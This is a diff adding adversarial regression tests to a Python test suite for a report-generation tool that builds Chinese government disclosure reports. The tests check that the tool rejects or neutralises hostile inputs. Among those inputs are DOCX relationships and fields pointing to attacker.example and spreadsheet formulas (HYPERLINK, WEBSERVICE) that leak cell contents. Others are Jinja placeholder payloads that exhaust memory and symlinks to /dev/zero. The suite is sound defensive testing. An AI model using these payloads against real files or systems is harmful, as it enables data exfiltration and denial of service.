@@ -438,3 +438,354 @@ CASES: list[Case] = [
     Case("big_shared_strings", big_shared_strings, 0, ("检查通过",)),
     Case("pasted_photo", pasted_photo, 0, ("检查通过",)),
 ]
+
+
+# ---- Second round (issue 14): attacks on every way in, each with the command it is given to ----
+#
+# An `Attack` makes its inputs in `inp` (and maybe an old output in `out`) and returns the
+# command line. The test runs it in a real process under memory and time limits and checks the
+# exit status, the message, that no input changed and that `out` holds all-new or all-old files.
+
+STANDARD_PACK = Path(__file__).resolve().parents[2] / "templates" / "standard"
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    make: Callable[[Path, Path], list[str | Path]]
+    exit: int
+    says: tuple[str, ...] = ()
+    verify: Callable[[Path], None] | None = None  # further checks of `out` after a success
+
+
+def json_file(folder: Path, change: Callable[[dict[str, Any]], None] | None = None, name: str = "兰山区2021.json") -> Path:
+    doc = sample_doc()
+    if change:
+        change(doc)
+    # ensure_ascii: a lone surrogate survives only as a \ud800 escape
+    return write_json(folder, name, json.dumps(doc, ensure_ascii=True).encode())
+
+
+def pack_with(folder: Path, name: str, manifest: str, files: dict[str, str] | None = None) -> Path:
+    pack = folder / name
+    pack.mkdir()
+    (pack / "pack.toml").write_text(manifest, encoding="utf-8")
+    for fname, text in (files or {}).items():
+        (pack / fname).write_text(text, encoding="utf-8")
+    return pack
+
+
+def docx_pack(folder: Path, change: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None) -> Path:
+    """A pack extending standard whose report.docx is the standard one changed member by member."""
+    pack = pack_with(folder, "外来模板", 'name = "foreign"\nformat = "gov-2021"\nextends = "standard"\n')
+    rewrite_zip(STANDARD_PACK / "report.docx", pack / "report.docx", change, add)
+    return pack
+
+
+def _rels_add(part: str, relationship: str) -> Callable[[str, bytes], bytes]:
+    return lambda n, d: d.replace(b"</Relationships>", relationship.encode() + b"</Relationships>") if n == part else d
+
+
+def _body_add(xml: str) -> Callable[[str, bytes], bytes]:
+    return lambda n, d: d.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1) if n == "word/document.xml" else d
+
+
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+EXTERNAL_DOCX = {
+    "attached_template": _rels_add("word/_rels/settings.xml.rels",
+                                   f'<Relationship Id="rId99" Type="{R}/attachedTemplate" '
+                                   'Target="http://attacker.example/macro.dotm" TargetMode="External"/>'),
+    "unc_hyperlink": _rels_add("word/_rels/document.xml.rels",
+                               f'<Relationship Id="rId99" Type="{R}/hyperlink" Target="file://attacker.example/share/x" '
+                               'TargetMode="External"/>'),
+    "remote_image": _rels_add("word/_rels/document.xml.rels",
+                              f'<Relationship Id="rId99" Type="{R}/image" Target="http://attacker.example/p.png" '
+                              'TargetMode="External"/>'),
+    "includepicture_field": _body_add(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
+        '<w:r><w:instrText>PICTURE "http://attacker.example/p.png" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
+    "macro_part": lambda n, d: d,  # the part itself is added below
+}
+
+
+def external_docx(kind: str) -> Callable[[Path], Path]:
+    def make(folder: Path) -> Path:
+        add = {"word/vbaProject.bin": b"\0" * 64} if kind == "macro_part" else None
+        if kind == "attached_template":
+            add = {"word/_rels/settings.xml.rels": (
+                b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
+                b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')}
+            pack = docx_pack(folder, lambda n, d: d, add)
+            rewrite_zip(pack / "report.docx", folder / "t.docx", EXTERNAL_DOCX[kind])
+            shutil.move(folder / "t.docx", pack / "report.docx")
+            return pack
+        return docx_pack(folder, EXTERNAL_DOCX[kind], add)
+
+    return make
+
+
+def far_cell(cell: str) -> Callable[[Path], Path]:
+    """The sample workbook with one more cell far out on the requests sheet (a stray keystroke)."""
+    def make(folder: Path) -> Path:
+        src = copy_sample(folder, "src.xlsx")
+        part = sheet_part(src, REQ)
+        row = "".join(ch for ch in cell if ch.isdigit())
+
+        def change(name: str, data: bytes) -> bytes:
+            if name != part:
+                return data
+            extra = f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
+            return data.replace(b"</sheetData>", extra + b"</sheetData>", 1)
+
+        path = rewrite_zip(src, folder / f"远处有格{cell}.xlsx", change)
+        src.unlink()
+        return path
+
+    return make
+
+
+def workbook_with(cells: dict[tuple[str, str], Any], name: str = "兰山区2021.xlsx") -> Callable[[Path], Path]:
+    return lambda folder: set_cells(copy_sample(folder, name), cells)
+
+
+def units_sheet_value(value: float) -> Callable[[Path], Path]:
+    """A merged workbook whose 单位汇总 sheet holds `value` for a unit."""
+    def make(folder: Path) -> Path:
+        import openpyxl
+
+        path = copy_sample(folder, "汇总.xlsx")
+        wb = openpyxl.load_workbook(path)
+        ws = wb.create_sheet("单位汇总")
+        ws.append(["各单位主要数据"])
+        ws.append(["单位", "来源文件", "新收申请"])
+        ws.append(["甲局", "甲局.xlsx", value])
+        wb.save(path)
+        return path
+
+    return make
+
+
+def word_docx(name: str, body: str) -> Callable[[Path], Path]:
+    """A minimal published report (.docx) with `body` as word/document.xml's body."""
+    def make(folder: Path) -> Path:
+        path = folder / name
+        with zipfile.ZipFile(path, "w") as z:
+            z.writestr("[Content_Types].xml", "<Types/>")
+            z.writestr("word/document.xml", f"<w:document {W_NS}><w:body>{body}")
+        return path
+
+    return make
+
+
+nested_sdt_docx = word_docx(
+    "去年的报告.docx", "<w:sdt><w:sdtContent>" * 5000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 5000 + "</w:body></w:document>")
+malformed_docx = word_docx("坏的报告.docx", "<w:p><w:t>一、总体情况")  # cut off mid-paragraph
+
+
+def fifo(folder: Path) -> Path:
+    path = folder / "unit.json"
+    os.mkfifo(path)
+    return path
+
+
+def link_to(target: str, name: str) -> Callable[[Path], Path]:
+    def make(folder: Path) -> Path:
+        path = folder / name
+        path.symlink_to(target)
+        return path
+
+    return make
+
+
+def _organ(value: Any) -> Callable[[dict[str, Any]], None]:
+    return lambda d: _set(d, "meta.organ", value)
+
+
+def _prose(text: str, key: str = "overview.requests") -> Callable[[dict[str, Any]], None]:
+    return lambda d: d["narrative"].__setitem__(key, text)
+
+
+NARRATIVE = f"正文!{__import__('reportgen.formats.workbook', fromlist=['layout']).layout().slots['narrative.overview.requests'].cell}"
+
+
+def _check(source: Callable[[Path], Path]) -> Callable[[Path, Path], list[str | Path]]:
+    return lambda inp, out: ["check", source(inp)]
+
+
+def _build(source: Callable[[Path], Path], formats: str = "html,json", *extra: str) -> Callable[[Path, Path], list[str | Path]]:
+    return lambda inp, out: ["build", source(inp), "-o", out, "--format", formats, *extra]
+
+
+def _build_with_pack(pack: Callable[[Path], Path], formats: str = "html,json") -> Callable[[Path, Path], list[str | Path]]:
+    return lambda inp, out: ["build", json_file(inp), "-o", out, "--format", formats, "--template", pack(inp)]
+
+
+def _templates_check(pack: Callable[[Path], Path]) -> Callable[[Path, Path], list[str | Path]]:
+    return lambda inp, out: ["templates", "check", pack(inp)]
+
+
+def _json(change: Callable[[dict[str, Any]], None], name: str = "兰山区2021.json") -> Callable[[Path], Path]:
+    return lambda folder: json_file(folder, change, name)
+
+
+def _no_formula_cells(out: Path) -> None:
+    """Every workbook in `out`: no cell holds a formula made of input text."""
+    import openpyxl
+
+    books = sorted(out.glob("*.xlsx"))
+    assert books, "no workbook was written"
+    for book in books:
+        wb = openpyxl.load_workbook(book)
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    if c.data_type == "f":
+                        assert "attacker" not in str(c.value) and "HYPERLINK" not in str(c.value), (ws.title, c.coordinate)
+                    if isinstance(c.value, str) and "attacker.example" in c.value:
+                        assert c.data_type == "s", (ws.title, c.coordinate)
+
+
+def _units_clean(out: Path) -> None:
+    import openpyxl
+
+    ws = openpyxl.load_workbook(out / "汇总.xlsx")["单位汇总"]
+    assert [ws.cell(r, 1).value for r in (3, 4)] == ["甲局", "乙局"]
+
+
+def _names_are_clean(out: Path) -> None:
+    names = [p.name for p in out.iterdir()]
+    assert names, "nothing was written"
+    for name in names:
+        assert not any(ch in name for ch in "\u202e\u200b\u000b\u0001\ufeff"), repr(name)
+
+
+def _no_negative_zero(out: Path) -> None:
+    html = next(out.glob("*.html")).read_text(encoding="utf-8")
+    assert "-0.00" not in html and "收取行政事业性收费0.00万元" in html.replace(" ", "") or "0.00" in html
+
+
+def _init_organ(organ: str) -> Callable[[Path, Path], list[str | Path]]:
+    def make(inp: Path, out: Path) -> list[str | Path]:
+        out.mkdir()
+        return ["init", out / "新工作簿.xlsx", "--organ", organ, "--year", "2025"]
+
+    return make
+
+
+def _init_previous_contact(inp: Path, out: Path) -> list[str | Path]:
+    out.mkdir()
+    previous = json_file(inp, lambda d: _set(d, "meta.contact.phone", '=HYPERLINK("http://attacker.example/")'))
+    return ["init", out / "兰山区2022.xlsx", "--previous", previous]
+
+
+def _merge_units(organ: str) -> Callable[[Path, Path], list[str | Path]]:
+    def make(inp: Path, out: Path) -> list[str | Path]:
+        out.mkdir()
+        a = json_file(inp, _organ(organ), "甲.json")
+        b = json_file(inp, _organ("乙局"), "乙.json")
+        return ["merge", a, b, "-o", out / "汇总.xlsx", "--organ", "临沂市兰山区人民政府"]
+
+    return make
+
+
+def _merge_onto_input(inp: Path, out: Path) -> list[str | Path]:
+    a = json_file(inp, _organ("甲局"), "a.json")
+    b = json_file(inp, _organ("乙局"), "b.json")
+    return ["merge", a, b, "-o", a, "--force"]
+
+
+def _init_onto_previous(inp: Path, out: Path) -> list[str | Path]:
+    previous = copy_sample(inp, "兰山区2021.xlsx")
+    return ["init", previous, "--previous", previous, "--force"]
+
+
+def _pack_manifest(manifest: str) -> Callable[[Path], Path]:
+    return lambda folder: pack_with(folder, "坏清单", manifest)
+
+
+def _pack_sentences(expr: str) -> Callable[[Path], Path]:
+    return lambda folder: pack_with(
+        folder, "大格式", 'name = "big"\nformat = "gov-2021"\nextends = "standard"\n',
+        {"report.html.j2": '{% extends "standard/report.html.j2" %}{% block colophon %}' + expr + "{% endblock %}"})
+
+
+def _two_packs_cycle(inp: Path, out: Path) -> list[str | Path]:
+    pack_with(inp, "甲", 'name = "甲"\nextends = "乙"\n')
+    pack_with(inp, "乙", 'name = "乙"\nextends = "甲"\n')
+    return ["templates", "list", "--templates", inp]
+
+
+def _long_output_folder(inp: Path, out: Path) -> list[str | Path]:
+    return ["build", json_file(inp), "-o", out / ("很长的文件夹名" * 30), "--format", "json"]
+
+
+ATTACKS: list[Attack] = [
+    # 1. a report template that reaches outside
+    *(Attack(f"docx_{kind}_check", _templates_check(external_docx(kind)), 1, ("report.docx", "为安全起见拒绝使用"))
+      for kind in EXTERNAL_DOCX),
+    *(Attack(f"docx_{kind}_build", _build_with_pack(external_docx(kind), "docx"), 2, ("report.docx", "为安全起见拒绝使用"))
+      for kind in EXTERNAL_DOCX),
+    # 2. formulas in text written into workbooks
+    Attack("init_organ_formula", _init_organ('=HYPERLINK("http://attacker.example/?"&B13,"点击")'), 0,
+           verify=_no_formula_cells),
+    Attack("init_previous_contact_formula", _init_previous_contact, 0, verify=_no_formula_cells),
+    Attack("merge_unit_organ_formula", _merge_units('=WEBSERVICE("http://attacker.example/")'), 0,
+           verify=_no_formula_cells),
+    # 3. cells far out: read only the format's ranges
+    Attack("cell_at_XFD1048576", _check(far_cell("XFD1048576")), 0, ("共0个错误",)),
+    Attack("cell_at_ZZ200000", _check(far_cell("ZZ200000")), 0, ("共0个错误",)),
+    # 4, 25. placeholders are data references
+    Attack("placeholder_power", _check(workbook_with({("正文", NARRATIVE.split("!")[1]): "{{ 9**(9**9) }}"})), 1,
+           (NARRATIVE, "{{ 9**(9**9) }}", "不能运算")),
+    Attack("placeholder_string_product", _check(_json(_prose("共{{ 'a'*(3*10**9) }}件"))), 1,
+           ("narrative.overview.requests", "'a'*(3*10**9)", "不能运算")),
+    Attack("placeholder_statement", _check(_json(_prose("{% for i in range(10**9) %}x{% endfor %}"))), 1,
+           ("narrative.overview.requests", "{%")),
+    # 5. pack filters that would allocate gigabytes
+    Attack("pack_format_width", _templates_check(_pack_sentences('{{ "%3000000000s"|format("a") }}')), 1, ("过大",)),
+    Attack("pack_center", _build_with_pack(_pack_sentences('{{ "a"|center(3*10**9) }}')), 2, ("过大", "report.html.j2")),
+    Attack("pack_str_method", _build_with_pack(_pack_sentences('{{ "a".ljust(10**10) }}')), 2, ("过大",)),
+    # 6. not a regular file
+    Attack("fifo_json", _check(fifo), 2, ("管道",)),
+    Attack("link_to_dev_zero_json", _check(link_to("/dev/zero", "数据.json")), 2, ("设备文件",)),
+    Attack("link_to_dev_zero_xlsx", _check(link_to("/dev/zero", "工作簿.xlsx")), 2, ("设备文件",)),
+    # 7, 12. invisible characters in the organ: clean names, a DOCX that builds
+    Attack("organ_bidi_zero_width", _build(_json(_organ("兰山区\u202e\u200b人民政府")), "json,html,docx"), 0,
+           ("文字中有", "meta.organ"), verify=_names_are_clean),
+    Attack("organ_vertical_tab_docx", _build(_json(_organ("兰山区\u000b人民政府")), "docx"), 0,
+           ("控制字符",), verify=_names_are_clean),
+    # 8. --force never overwrites an input
+    Attack("merge_onto_input", _merge_onto_input, 2, ("输入文件之一",)),
+    Attack("init_onto_previous", _init_onto_previous, 2, ("输入文件之一",)),
+    # 13, 14. lone surrogates and control characters
+    Attack("prose_lone_surrogate", _build(_json(_prose("本年\ud800新收申请")), "docx,html,json"), 0, ("无法编码",)),
+    Attack("merge_unit_organ_control", _merge_units("甲\u0001局"), 0, ("已汇总2个单位",), verify=_units_clean),
+    # 15, 16, 27. pack.toml values of the wrong type, and a cycle
+    Attack("pack_extends_number", _templates_check(_pack_manifest("extends = 5\n")), 1, ("pack.toml", "extends", "数字5")),
+    Attack("pack_extends_list", _templates_check(_pack_manifest('extends = ["standard"]\n')), 1, ("pack.toml", "数组")),
+    Attack("pack_heading_table", _templates_check(_pack_manifest('[headings]\noverview = {a = 1}\n')), 1,
+           ("pack.toml", "overview", "应为文字")),
+    Attack("pack_extends_cycle", _two_packs_cycle, 2, ("pack.toml", "继承层级过深")),
+    # 17. a published report nested too deep, or malformed
+    Attack("published_nested_sdt", _check(nested_sdt_docx), 2, ("嵌套过深", "word/document.xml")),
+    Attack("published_malformed", _check(malformed_docx), 2, ("已损坏", "word/document.xml")),
+    # 18. 1e309 in 单位汇总
+    Attack("units_sheet_inf", _check(units_sheet_value(1e309)), 0, ("共0个错误",)),
+    # 19. a 正文 paragraph that is just an opening bracket
+    Attack("prose_lone_bracket", _build(_json(_prose("（")), "html,docx,json"), 0),
+    Attack("prose_bracket_one", _build(_json(_prose("（一")), "html,docx,json"), 0),
+    # 22. −0.0 in money
+    Attack("money_negative_zero", _build(_json(lambda d: _set(d, "active_disclosure.fees.amount", -0.0)), "html"), 0,
+           verify=_no_negative_zero),
+    # 23. a write failure: named, in Chinese, with a fitting remedy
+    Attack("output_name_too_long", _long_output_folder, 2, ("文件名或路径过长", "路径较短")),
+    Attack("organ_too_long_for_a_file_name", _build(_json(_organ("兰山区" * 150)), "json"), 0),
+    # 24. megabytes of prose: blamed on the cell, not the template
+    Attack("prose_six_million", _check(workbook_with({("正文", NARRATIVE.split("!")[1]): "字" * 6_000_000})), 1,
+           (NARRATIVE, "32767")),
+    # 26. meta.organ of another type
+    *(Attack(f"json_organ_{label}", _check(_json(_organ(value))), 1, ("meta.organ", "应为文字"))
+      for label, value in (("true", True), ("list", ["甲"]), ("object", {"a": 1}), ("number", 12345))),
+]
